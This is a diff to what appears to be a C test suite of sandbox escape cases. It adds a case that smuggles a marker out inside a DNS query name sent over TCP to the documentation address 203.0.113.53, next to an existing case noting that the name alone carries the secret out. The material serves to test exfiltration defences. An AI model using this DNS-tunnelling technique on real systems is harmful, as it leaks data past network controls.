@@ -179,6 +179,19 @@ ATTACK(network_own_question) {
   close(socket_);
 }
 
+ATTACK(network_own_question_stream) {
+  unsigned char packet[258];
+  struct sockaddr_in address = target();
+  size_t length = question(packet + 2, WORD "." NAME);
+  packet[0] = 0, packet[1] = (unsigned char)length;
+  address.sin_port = htons(53);
+  inet_pton(AF_INET, "203.0.113.53", &address.sin_addr);
+  int socket_ = socket(AF_INET, SOCK_STREAM, 0);
+  if (connect(socket_, (struct sockaddr *)&address, sizeof address) != 0) say("%s\n", strerror(errno));
+  else if (write(socket_, packet, length + 2) < 0) say("%s\n", strerror(errno));
+  close(socket_);
+}
+
 // libc asks the resolver: the name alone carries the secret out, whatever becomes of the answer.
 ATTACK(network_name_as_message) {
   struct addrinfo *found = NULL;
